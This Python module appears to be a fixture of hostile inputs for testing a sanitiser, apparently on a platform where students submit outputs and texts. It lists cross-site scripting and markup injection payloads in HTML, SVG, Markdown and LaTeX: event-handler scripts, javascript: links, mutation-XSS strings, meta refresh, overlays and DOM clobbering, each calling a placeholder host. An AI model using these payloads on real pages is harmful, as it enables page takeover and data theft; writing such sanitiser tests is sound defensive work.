"""What a student may put into outputs and texts to take over the page of whoever reads it."""

from __future__ import annotations

import base64

AWAY = "https://example.invalid"
SCRIPT = "window.taken=1;fetch('https://example.invalid/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>
<image href="{AWAY}/i.png"/><foreignObject><iframe src="{AWAY}"></iframe></foreignObject>
<rect width="9" height="9"/></svg>"""
SVG_DATA = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()

MARKUP = [
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src='{AWAY}/pixel.png'>",
    f"<img srcset='{AWAY}/a.png 2x' src='{SVG_DATA}'>",
    f'<svg onload="{SCRIPT}"><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    f"<math><maction actiontype='statusline#{AWAY}' xlink:href='javascript:{SCRIPT}'>x</maction></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
    f"<a href='javascript:{SCRIPT}'>a</a><a href='data:text/html,<script>{SCRIPT}</script>'>b</a>",
    f"<a href='{AWAY}' target=_blank>c</a><a href=' java\tscript:{SCRIPT}'>d</a>",
    f"<iframe src='{AWAY}' srcdoc='<script>{SCRIPT}</script>'></iframe><object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'><video src='{AWAY}' poster='{AWAY}'></video><audio src='{AWAY}'></audio>",
    f"<link rel=stylesheet href='{AWAY}/a.css'><style>@import '{AWAY}/b.css'; body{{display:none}}</style>",
    f"<base href='{AWAY}/'><meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action='{AWAY}'><input name=top autofocus onfocus=\"{SCRIPT}\"><button>ok</button></form>",
    "<div style='position:fixed;inset:0;background:red;z-index:9'>encima</div>",
    f"<div style=\"background:url('{AWAY}/c.png')\" id=top class='card right total bar'>clases</div>",
    "<div id=first></div><a id=questions name=documentElement></a><img name=body>",
    "</div></div></section></main></body></html><h1>afuera</h1>",
    f"<table background='{AWAY}/t.png'><tr><td background='{AWAY}/t.png'>tabla</td></tr></table>",
    f'<p onclick="{SCRIPT}" onmouseover="{SCRIPT}" contenteditable>p</p>',
    f'<details ontoggle="{SCRIPT}" open>d</details>',
    f"<template><script>{SCRIPT}</script></template>",
    f'<noscript><p title="</noscript><script>{SCRIPT}</script>">',
    f"<textarea><script>{SCRIPT}</script></textarea><xmp><script>{SCRIPT}</script></xmp><plaintext>",
]

TEXTS = [
    f"[x](javascript:{SCRIPT}) ![y]({AWAY}/y.png) ![z]({SVG_DATA}) [w](data:text/html;base64,PHNjcmlwdD4=)",
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $\\style{{position:fixed;inset:0}}{{x}}$ $\\class{{card}}{{x}}$",
    f'$\\text{{<script>{SCRIPT}</script>}}$ $\\text{{</math><img src=x onerror="{SCRIPT}">}}$',
    f'![$\\text{{" onerror="{SCRIPT}}}$](data:image/png;base64,AAAA)',
    f"<{AWAY}/auto> <script>{SCRIPT}</script> <img src={AWAY}/k.png>",
    "$\\rule{900em}{900em}$ $\\raise{-900em}{x}$ $\\hspace{-900em}x$",
    f'# título <img src=x onerror="{SCRIPT}"> {{#top}}',
    "```html\n<script>window.taken=1</script>\n```",
    *MARKUP,
]
